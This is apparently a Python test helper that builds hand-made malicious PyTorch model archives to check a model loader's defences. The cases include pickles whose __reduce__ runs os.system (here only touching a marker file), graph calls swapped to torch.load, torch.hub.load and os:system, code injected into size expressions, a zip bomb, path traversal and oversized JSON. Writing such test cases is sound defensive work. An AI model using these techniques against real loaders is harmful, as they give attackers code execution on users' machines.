"""Attacks made by hand: saved programs that try more than a model does."""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from typing import Any

import torch

from tools.attack_edits import CODE, MARKER
from tools.attack_readers import read_member, repack


class _Evil:
    def __reduce__(self) -> Any:
        return os.system, (f"touch {MARKER}",)


def _save_evil() -> bytes:
    file = io.BytesIO()
    torch.save(((_Evil(),), {}), file)
    return file.getvalue()


def _bomb() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("m/models/model.json", b" " * (256 << 20))
    return file.getvalue()


MODEL = "models/model.json"


def list_programs(sound: bytes) -> dict[str, bytes]:
    """Saved programs that try more than a model does."""
    return _list_pickles(sound) | _list_calls(sound) | _list_archives(sound)


def _list_pickles(sound: bytes) -> dict[str, bytes]:
    """Members that run when they are unpickled or linked."""
    config = read_member(sound, "model_weights_config.json")
    return {
        "a pickle for example inputs": repack(sound, {"data/sample_inputs/model.pt": _save_evil()}),
        "a plain pickle": repack(sound, {"data/sample_inputs/model.pt": pickle.dumps(_Evil())}),
        "a custom object": repack(sound, {"data/constants/custom_obj_0": pickle.dumps(_Evil())}),
        "an opaque object": repack(sound, {"data/constants/opaque_obj_0": pickle.dumps(_Evil())}),
        "a weight that is a pickle": repack(
            sound,
            {
                "data/weights/weight_0": pickle.dumps(_Evil()),
                "data/weights/model_weights_config.json": config.replace(
                    b'"use_pickle": false', b'"use_pickle": true'
                ),
            },
        ),
        "a compiled library": repack(sound, {"data/aotinductor/model/x.so": b"\x7fELF"}),
    }


def _list_calls(sound: bytes) -> dict[str, bytes]:
    """Graphs that call functions, and sizes that are evaluated."""
    graph = read_member(sound, MODEL)
    quoted = CODE.replace('"', "'")

    def target(name: str) -> bytes:
        changed = graph.replace(b"torch.ops.aten.linear.default", name.encode())
        return repack(sound, {MODEL: changed})

    def expression(text: str) -> bytes:
        at = graph.index(b'"expr_str": "') + 13
        end = graph.index(b'"', at)
        return repack(sound, {MODEL: graph[:at] + text.encode() + graph[end:]})

    return {
        "torch.hub.load": target("torch.hub.load"),
        "torch.load": target("torch.load"),
        "attrgetter": target("_operator.attrgetter"),
        "an extension": target("#os:system"),
        "aten.from_file": target("torch.ops.aten.from_file.default"),
        "aten.save": target("torch.ops.aten.save.default"),
        "a kernel": target("torch.ops.higher_order.triton_kernel_wrapper_mutation"),
        "code as a size": expression(quoted),
        "code behind a symbol": expression(f"Symbol('s0') + {quoted}"),
        "a lambda as a size": expression("(lambda: 0)()"),
        "a power tower": expression(
            "Pow(Integer(9), Pow(Integer(9), Pow(Integer(9), Integer(9))))"
        ),
        "a power of powers": expression("9**9**9**9"),
        "10,000 parentheses": expression("(" * 4_000 + "1" + ")" * 4_000),
    }


def _list_archives(sound: bytes) -> dict[str, bytes]:
    """Archives with more in them, or less, than a model needs."""
    graph = read_member(sound, MODEL)
    return {
        "an import by an enum": repack(
            sound, {MODEL: graph.replace(b"builtins.dict", b"__enum__ antigravity:x")}
        ),
        "a path outside": repack(sound, {"../../../tmp/x": b""}),
        "an unknown folder": repack(sound, {"hooks/post": b""}),
        "two archives": b"\x00" * 64 + sound,
        "a bomb": _bomb(),
        "half an archive": sound[: len(sound) // 2],
        "deep JSON": repack(sound, {MODEL: b"[" * 100_000 + b"]" * 100_000}),
    }
